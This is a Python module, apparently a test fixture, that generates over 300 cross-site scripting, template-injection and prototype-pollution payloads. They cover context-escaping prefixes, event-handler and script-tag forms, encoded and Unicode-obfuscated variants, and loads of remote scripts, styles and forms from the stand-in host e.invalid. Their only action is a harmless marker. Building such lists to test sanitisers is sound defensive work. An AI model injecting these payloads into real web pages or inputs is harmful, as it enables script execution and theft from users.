"""Texts that would run if they were ever taken for markup, style, a link, a template or code: over 300 of them."""

from __future__ import annotations

__all__ = ["PAYLOADS"]

_RUN = "window.hacked=1"
_EVENTS = (
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontoggle"),
    "onpointerdown",
    *("onwheel", "onscroll", "oninput", "onchange", "onbeforetoggle", "oncontentvisibilityautostatechange"),
)  # fmt: skip
_ELEMENTS = (
    *("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=x"),
    *("marquee", "object data=x", "a href=x tabindex=1 autofocus", "style", "math", "div popover"),
    *("select autofocus", "textarea autofocus"),
)  # fmt: skip
_LEAVE = (
    "</script>",
    "\\",
    "/*",
    "</style>",
    "</textarea>",
    "</title>",
    "</noscript>",
    "</pre>",
    "-->",
    "]]>",
    '">',
    "'>",
    "`>",
    "",
)
_WHOLE = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script/x>{run}</script>",
    "<script src=https://e.invalid/x.js></script>",
    "<<script>{run}//<</script>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x>",
    "<math><mi xlink:href='javascript:{run}'>x</mi></math>",
    "<a href='javascript:{run}'>x</a>",
    "<a href='jAvAsCrIpT&colon;{run}'>x</a>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src='data:text/html,<script>parent.{run}</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://e.invalid/'>",
    "<link rel=stylesheet href=https://e.invalid/x.css>",
    "<base href=https://e.invalid/>",
    "<form action=https://e.invalid/><button>x",
    "<object data='data:text/html,<script>{run}</script>'></object>",
    "<embed src=https://e.invalid/x>",
    "<style>@import 'https://e.invalid/x.css';</style>",
    "<div style='background:url(https://e.invalid/x)'>x</div>",
    "<img src=https://e.invalid/x.png>",
    "<img srcset='https://e.invalid/x.png 1x'>",
    "<video poster=https://e.invalid/x.png></video>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[><img src=x onerror={run}>]]>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{{{7*7}}}}{{% raw %}}",
    "${{{run}}}",
    "`${{{run}}}`",
    "'-({run})-'",
    '";{run}//',
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "#sample=<img src=x onerror={run}>",
    "\u2028{run}\u2029",
    "\u202e<script>{run}</script>\u202c",
    "\x00<script>{run}</script>",
    "\x1e\x1f\x1d<script>{run}</script>",
    "\ufeff<script>{run}</script>",
    "<scr\x00ipt>{run}</scr\x00ipt>",
    "\ud800<img src=x onerror={run}>",
    "__proto__",
    "constructor",
    '{{"__proto__":{{"hacked":1}}}}',
    "$&$`$'",
)
# A dozen ways out of what a text may stand in, by sixteen elements and an event each; and the whole ones.
PAYLOADS: tuple[str, ...] = (
    *(
        f"{leave}<{element} {_EVENTS[(i + k) % len(_EVENTS)]}={_RUN}>"
        for i, leave in enumerate(_LEAVE)
        for k, element in enumerate(_ELEMENTS)
    ),
    *(f"<img src=x {event}={_RUN}>" for event in _EVENTS),
    *(f'" {event}="{_RUN}" x="' for event in _EVENTS),
    *(f"' {event}='{_RUN}' x='" for event in _EVENTS),
    *(text.format(run=_RUN) for text in _WHOLE),
)
